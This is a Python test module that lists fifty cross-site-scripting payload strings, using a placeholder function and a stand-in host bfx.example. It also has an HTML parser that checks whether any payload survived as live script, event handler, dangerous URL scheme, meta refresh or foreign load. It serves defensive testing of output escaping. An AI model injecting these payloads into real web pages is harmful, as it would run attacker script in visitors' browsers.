"""Fifty strings that would like to become part of a page, and a reader who sees whether one did.

The reader takes a page apart as a browser does and names everything on it that could run, load or
lead away. Whatever somebody typed may only ever be text, or the value of an attribute that does
nothing.
"""

import re
from html.parser import HTMLParser
from typing import Final

MARK: Final = "bfx"
"""Stands in each string, so that it is found again."""
STRINGS: Final = (
    "<script>bfx()</script>",
    "<ScRiPt src=//bfx.example></ScRiPt>",
    "</title><script>bfx()</script>",
    "</textarea><script>bfx()</script>",
    "</option></select><script>bfx()</script>",
    "</code></pre><script>bfx()</script>",
    "<<script>bfx()//<</script>",
    "<script\x0c>bfx()</script>",
    "<img src=x onerror=bfx()>",
    "<img/src=x/onerror=bfx()>",
    "<svg onload=bfx()>",
    "<svg/onload=bfx()>",
    "<svg><script>bfx()</script></svg>",
    "<svg><animate onbegin=bfx() attributeName=x>",
    "<svg><a xlink:href=javascript:bfx()>x</a></svg>",
    "<math><mi xlink:href=javascript:bfx()>x",
    "<body onload=bfx()>",
    "<iframe src=javascript:bfx()>",
    "<iframe srcdoc='<script>bfx()</script>'>",
    "<object data=javascript:bfx()>",
    "<embed src=//bfx.example>",
    "<base href=//bfx.example/>",
    "<link rel=stylesheet href=//bfx.example>",
    "<meta http-equiv=refresh content='0;url=//bfx.example'>",
    "<style>@import '//bfx.example'</style>",
    "<a href=javascript:bfx()>x</a>",
    "<a href='java\tscript:bfx()'>x</a>",
    "<a href=data:text/html,bfx>x</a>",
    "<form action=//bfx.example><button>x",
    "<button formaction=javascript:bfx()>x",
    "<input onfocus=bfx() autofocus>",
    "<details open ontoggle=bfx()>x",
    "<video><source onerror=bfx()>",
    "<audio src=x onerror=bfx()>",
    "<marquee onstart=bfx()>x",
    "<template><script>bfx()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=bfx()>'>",
    "<div hx-get=//bfx.example hx-trigger=load>",
    '" onmouseover=bfx() x="',
    "' onmouseover=bfx() x='",
    '"><script>bfx()</script>',
    "'><script>bfx()</script>",
    '"><img src=x onerror=bfx()>',
    '" autofocus onfocus="bfx()',
    "javascript:bfx()",
    " javascript:bfx()//",
    "data:text/html,<script>bfx()</script>",
    "vbscript:bfx()",
    "{{ bfx }}<script>bfx({{ config }})</script>",
    "&lt;script&gt;bfx()&lt;/script&gt;<script>bfx()</script>",
)
_NEVER: Final = frozenset(
    {"iframe", "object", "embed", "base", "style", "math", "animate", "marquee", "template"}
)
_LEADS: Final = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"})
_LOADED: Final = frozenset({"script", "link", "img", "source", "video", "audio"})
_OURS: Final = re.compile(r"/static/[^\"']*")
_SCHEME: Final = re.compile(r"(?:javascript|data|vbscript):", re.IGNORECASE)
_HTMX: Final = re.compile(r"hx-(?:get|post|on.*)")
Attributes = list[tuple[str, str | None]]


class Reader(HTMLParser):
    """Reads one page; ``dangers`` is what it must not have, ``said`` all its text and values."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []
        self.said: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: Attributes) -> None:
        self._inside = tag
        if tag in _NEVER or MARK in tag:
            self.dangers.append(f"<{tag}>")
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.dangers.append("<meta http-equiv>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if "built-in method" in data or "<function" in data:
            self.dangers.append(f"a piece of the program: {data[:40]}")
        if self._inside == "script" and data.strip():
            self.dangers.append(f"a script: {data[:40]}")
        self.said.append(data)

    def _attribute(self, tag: str, name: str, value: str) -> None:
        self.said.append(value)
        if name.startswith("on") or MARK in name or name == "srcdoc":
            self.dangers.append(f"{tag} {name}")
        if name in _LEADS:
            self._address(tag, name, value)
        if _HTMX.fullmatch(name) and (not value.startswith("/") or value.startswith("//")):
            self.dangers.append(f"{tag} {name}={value[:40]}")

    def _address(self, tag: str, name: str, value: str) -> None:
        bare = re.sub(r"[\x00-\x20]", "", value)
        foreign = bare.startswith("//") or "//" in bare.partition("?")[0].replace("\\", "/")
        sends = name in ("action", "formaction") and foreign
        loads = tag in _LOADED and name != "action" and not _OURS.match(bare)
        if _SCHEME.match(bare) or sends or loads or bare.startswith("//"):
            self.dangers.append(f"{tag} {name}={value[:40]}")


def take_apart(page: str) -> Reader:
    """What a page is made of."""
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader
